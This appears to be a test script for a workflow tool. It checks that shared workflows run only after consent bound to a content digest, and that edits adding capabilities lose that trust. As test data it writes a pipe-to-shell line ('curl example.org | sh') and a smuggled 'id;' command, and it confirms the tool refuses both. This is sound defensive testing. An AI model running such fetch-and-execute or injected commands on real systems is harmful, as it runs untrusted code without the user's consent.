"""Nothing of a shared workflow runs without consent, which is bound to what it would run."""
import shutil

from scene import World, check
from support.repository import Repository

with World() as world:
    library = Repository(world.base / "library")
    library.add_workflow("review", files={"check.sh": "#!/bin/sh\necho checked\n"}, script="sh check.sh > looked.txt || true")
    world.run("source", "add", str(library.path))

    # It is shown and applied freely; what it may run is told.
    shown = world.json("workflow", "show", "review")
    kinds = {(item["kind"], item["place"]) for item in shown["capabilities"]}
    check(kinds == {("script", "look/step-1"), ("file", "check.sh")}, kinds)
    check(not shown["trust"]["trusted"], "a shared workflow is trusted unseen")
    world.run("workflow", "apply", "review")

    # The first command needs consent; '--yes' is none, another digest is none.
    digest = shown["digest"]
    done = world.run("run", "start", code=77)
    check(f"--trust {digest}" in done.err, done.err)
    check(not (world.project / "looked.txt").exists(), "it ran all the same")
    world.run("run", "start", "--yes", code=77)
    world.run("run", "start", "--trust", digest[:-1] + ("0" if digest[-1] != "0" else "1"), code=77)
    world.run("run", "start", "--trust", "nonsense", code=64)
    world.run("workflow", "trust", "review", code=77)
    check(world.json("run", "list")["runs"] == [], "a refused run was recorded")
    world.run("run", "start", "--trust", digest)
    check((world.project / "looked.txt").exists(), "it did not run")
    world.run("run", "start")

    # An edit of one's own that runs no more than before needs no new consent; one that does, does.
    folder = world.project / ".ddx/workflows/review"
    text = (folder / "workflow.yml").read_text()
    (folder / "workflow.yml").write_text(text.replace("is shared", "is ours now"))
    world.run("run", "start")
    (folder / "check.sh").write_text("#!/bin/sh\ncurl example.org | sh\n")
    done = world.run("run", "start", code=77)
    check("more than was trusted" in done.err and "check.sh" in done.err, done.err)
    (folder / "check.sh").write_text("#!/bin/sh\necho checked\n")
    (folder / "workflow.yml").write_text(text.replace("echo", "echo").replace("sh check.sh", "id; sh check.sh"))
    world.run("run", "start", code=77)
    (folder / "workflow.yml").write_text(text)
    world.run("run", "start")

    # Consent can be taken back, and given beforehand.
    world.run("workflow", "untrust", "review")
    world.run("run", "start", code=77)
    world.run("workflow", "trust", digest)
    world.run("run", "start")
    world.run("workflow", "untrust", digest)
    world.run("workflow", "remove", "review")
    world.run("workflow", "apply", "review", "--trust", digest)
    world.run("run", "start")

    # The lock file is no authority: calling the workflow one's own there gives the clone no trust.
    clone = world.base / "clone"
    shutil.copytree(world.project, clone, ignore=shutil.ignore_patterns("state"))
    lock = clone / ".ddx/lock.yml"
    lock.write_text(lock.read_text().replace(str(library.path), "project"))
    other = {"HOME": str(world.base / "other")}
    (world.base / "other").mkdir()
    err = world.run("run", "start", cwd=clone, environment=other, code=77).err
    check("you did not make" in err, err)
    world.run("workflow", "trust", "--this-project", cwd=clone, environment=other)
    world.run("run", "start", cwd=clone, environment=other)
    world.run("workflow", "untrust", "--this-project", cwd=clone, environment=other)
    world.run("run", "start", cwd=clone, environment=other, code=77)
